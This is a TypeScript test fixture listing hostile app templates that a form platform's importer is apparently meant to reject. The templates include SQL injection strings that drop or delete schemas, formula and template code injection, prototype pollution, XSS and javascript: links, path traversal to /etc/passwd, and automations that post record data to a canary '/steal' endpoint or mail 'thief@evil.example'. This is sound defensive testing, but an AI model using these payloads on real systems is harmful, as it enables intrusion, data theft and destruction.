import type { AppDefinition } from '../../../../schemas/generated/definition.ts'

/** A template of a stranger: what it tries, and the raw definition (it need not be one). */
export type Malice = readonly [kind: string, definition: unknown]

const form = (fields: readonly object[] = [], more: object = {}) => ({
  ...{ key: 'thing', name: { zh: '东西' }, titleField: 'name' },
  fields: [{ key: 'name', label: { zh: '名称' }, type: 'text' }, ...fields],
  ...more,
})
const app = (more: object = {}, forms: readonly object[] = [form()]): AppDefinition =>
  ({ formatVersion: 1, key: 'stranger', version: '1.0.0', name: { zh: '陌生模板' }, forms, ...more }) as never
const field = (type: string, more: object = {}) => ({ key: 'x', label: { zh: '字段' }, type, ...more })
const formula = (text: string) => app({}, [form([field('formula', { formula: text, result: 'text' })])])
const notice = (text: string, to = '{owner}') => ({ do: 'notify', to, message: { zh: text } })
const automation = (then: readonly object[], more: object = {}) =>
  app({ automations: [{ key: 'a', name: { zh: '自动化' }, on: [{ event: 'created', form: 'thing' }], then, ...more }] })
const role = (more: object) => app({ roles: [{ key: 'r', label: { zh: '角色' }, grants: [], ...more }] })
const nested = (depth: number): unknown => (depth === 0 ? 1 : { and: [nested(depth - 1)] })
const hostile = (text: string) =>
  app({ name: { zh: text } }, [form([field('text', { label: { zh: text, en: text } })], { name: { zh: text } })])
const parsed = (text: string): unknown => JSON.parse(text)

/** At least one idea of our own for each class of attack; `canary` is a server that must never be called. */
export const malices = (canary: string): readonly Malice[] => [
  // Code
  ['code in a formula', formula('constructor.constructor("return process")()')],
  ['a prototype in a formula', formula('{__proto__.polluted}')],
  ['a function that is none of ours', formula('EVAL("1+1")')],
  ['a formula of endless depth', formula(`${'('.repeat(5000)}1${')'.repeat(5000)}`)],
  ['a formula of a hundred thousand letters', formula(`1${'+1'.repeat(60_000)}`)],
  ['a formula that grows its text without end', formula('REPT(REPT(REPT("x", 9999), 9999), 9999)')],
  ['a formula that reads itself', formula('{x} & "!"')],
  [
    'a condition as deep as a well',
    app({ views: [{ key: 'v', label: { zh: 'v' }, type: 'table', form: 'thing', where: nested(200) }] }),
  ],
  [
    'a rule that calls a method',
    app({
      views: [{ key: 'v', label: { zh: 'v' }, type: 'table', form: 'thing', where: { method: ['x', 'constructor'] } }],
    }),
  ],
  // Templates of messages
  ['code in a message', automation([notice('{{constructor.constructor("return 1")()}}')])],
  ['a partial in a message', automation([notice('{{> layout}}')])],
  ['a helper that is none of ours in a message', automation([notice('{{{lookup this "constructor"}}}')])],
  ['a place that is none of the record in a message', automation([notice('{$user.password}')])],
  // SQL
  ['SQL in a key', app({}, [form([{ ...field('text'), key: 'x"; drop table formwork.app; --' }])])],
  [
    'SQL in an option',
    app({
      optionLibraries: [
        { key: 'o', label: { zh: 'o' }, options: [{ key: "a'); delete from formwork.app; --", label: { zh: 'a' } }] },
      ],
    }),
  ],
  ['SQL in a label', hostile("'); drop schema formwork cascade; --")],
  [
    'SQL in a constant of a view',
    app({
      views: [
        {
          key: 'v',
          label: { zh: 'v' },
          type: 'table',
          form: 'thing',
          where: `{name} = "x' or pg_sleep(10) is null --"`,
        },
      ],
    }),
  ],
  [
    'SQL in a serial number',
    app({}, [form([field('serial', { serial: { pattern: "'||pg_sleep(10)||'{0000}", reset: 'never' } })])]),
  ],
  ['SQL in a time zone', app({ zone: "UTC'; select pg_sleep(10); --" })],
  // Reaching out
  ['a host inside by its number', app({ connectors: [{ key: 'c', kind: 'http', host: 'http://2130706433' }] })],
  [
    'a host inside by its name',
    app({
      connectors: [{ key: 'c', kind: 'http', host: canary }],
      automations: [
        {
          key: 'a',
          name: { zh: 'a' },
          on: [{ event: 'created', form: 'thing' }],
          then: [{ do: 'http', connector: 'c', method: 'POST', path: '/steal', payload: { all: '={name}' } }],
        },
      ],
    }),
  ],
  [
    'a host the path changes',
    app({
      connectors: [{ key: 'c', kind: 'http', host: 'https://good.example' }],
      automations: [
        {
          key: 'a',
          name: { zh: 'a' },
          on: [{ event: 'created', form: 'thing' }],
          then: [{ do: 'http', connector: 'c', method: 'GET', path: `@${canary.slice(7)}/x` }],
        },
      ],
    }),
  ],
  [
    'a call at every hour',
    app({
      connectors: [{ key: 'c', kind: 'http', host: canary }],
      automations: [
        {
          key: 'a',
          name: { zh: 'a' },
          on: [{ schedule: '* * * * *' }],
          then: [{ do: 'http', connector: 'c', method: 'GET', path: '/beat' }],
        },
      ],
    }),
  ],
  ['an e-mail to a stranger', automation([notice('x', '"thief@evil.example"')])],
  ['a picture from outside in a text', hostile(`<img src="${canary}/pixel.png">`)],
  ['a web address as an icon', app({ icon: `${canary}/icon.svg` })],
  // The house
  ['a role of the house', role({ key: 'admin', grants: [{ form: 'thing', can: ['read', 'root'] }] })],
  ['rights on a form of another app', role({ grants: [{ form: 'customer', can: ['read', 'delete'] }] })],
  ['rights on a system form', role({ grants: [{ form: '$task', can: ['read', 'delete'] }] })],
  [
    'a person by id',
    app({ settings: [{ key: 's', label: { zh: 's' }, type: 'user', value: '00000000-0000-4000-8000-000000000001' }] }),
  ],
  ['records of another app', automation([{ do: 'create', form: 'customer', set: { name: 'x' } }])],
  ['another app as a part of itself', app({ uses: ['trade'] })],
  ['an add-on over another app', app({ extends: 'trade' })],
  ['the key of an app that is there', { ...app(), key: 'trade' }],
  ['a key of the system', app({}, [form([{ ...field('text'), key: 'owner' }])])],
  ['sample data of a form that is none', app({ sampleData: { formwork_app_user: [{ name: 'x' }] } })],
  [
    'sample data that sets what the system sets',
    app({
      sampleData: {
        thing: [{ name: 'x', id: '00000000-0000-4000-8000-000000000001', deleted_at: '@-1d', _errors: {} }],
      },
    }),
  ],
  [
    'sample data owned by somebody of the house',
    app({ sampleData: { thing: [{ name: 'x', _owner: '00000000-0000-4000-8000-000000000001' }] } }),
  ],
  // Objects
  [
    'a prototype in the file',
    parsed(
      '{"formatVersion":1,"key":"stranger","version":"1.0.0","name":{"zh":"x"},"forms":[],"__proto__":{"admin":true}}',
    ),
  ],
  [
    'a constructor among the rights',
    parsed(
      '{"formatVersion":1,"key":"stranger","version":"1.0.0","name":{"zh":"x"},"forms":[{"key":"thing","name":{"zh":"x"},"fields":[]}],"roles":[{"key":"r","label":{"zh":"r"},"grants":[{"form":"thing","can":["read"],"fields":{"constructor":"write"}}]}]}',
    ),
  ],
  ['a list where an object should be', app({ name: ['x'] })],
  ['a number where a name should be', { ...app(), key: 42 }],
  ['nothing at all', {}],
  // Too much
  [
    'ten thousand forms',
    app(
      {},
      Array.from({ length: 10_000 }, (_, n) => ({ ...form(), key: `f${n}` })),
    ),
  ],
  [
    'a hundred thousand options',
    app({
      optionLibraries: [
        {
          key: 'o',
          label: { zh: 'o' },
          options: Array.from({ length: 100_000 }, (_, n) => ({ key: `o${n}`, label: { zh: 'x' } })),
        },
      ],
    }),
  ],
  ['a pattern that never ends', app({}, [form([field('text', { pattern: '^(a+)+$' })])])],
  ['an automation that feeds itself', automation([{ do: 'create', form: 'thing', set: { name: 'again' } }])],
  [
    'two automations that throw the ball',
    app({
      automations: [
        {
          key: 'a',
          name: { zh: 'a' },
          on: [{ event: 'updated', form: 'thing' }],
          then: [{ do: 'update', set: { name: '={name} & "a"' } }],
        },
        {
          key: 'b',
          name: { zh: 'b' },
          on: [{ event: 'updated', form: 'thing' }],
          then: [{ do: 'update', set: { name: '={name} & "b"' } }],
        },
      ],
    }),
  ],
  [
    'a timer of no time',
    app({}, [
      form([], {
        ladders: [
          {
            key: 'l',
            from: '{created_at}',
            steps: [{ key: 's', after: '0min', repeat: { every: '0min', times: 100 }, do: [notice('x')] }],
          },
        ],
      }),
    ]),
  ],
  [
    'a workflow that turns in a circle',
    app({
      workflows: [
        {
          key: 'w',
          name: { zh: 'w' },
          form: 'thing',
          start: { to: 'a', on: [{ event: 'created', form: 'thing' }] },
          nodes: [
            { key: 'a', type: 'do', do: [notice('x')], next: [{ to: 'b' }] },
            { key: 'b', type: 'do', do: [notice('y')], next: [{ to: 'a' }] },
          ],
        },
      ],
    }),
  ],
  // What people see
  ['a script in every name', hostile('<script>fetch("/api/users")</script>')],
  ['a link that runs', hostile('javascript:alert(1)')],
  ['a name written backwards', hostile('\u202Etxt.exe')],
  ['a formula for a spreadsheet as a name', hostile('=HYPERLINK("http://evil.example","x")')],
  ['a path as a name', hostile('../../../../etc/passwd')],
  ['a name of half a character', hostile('\uD83D')],
]
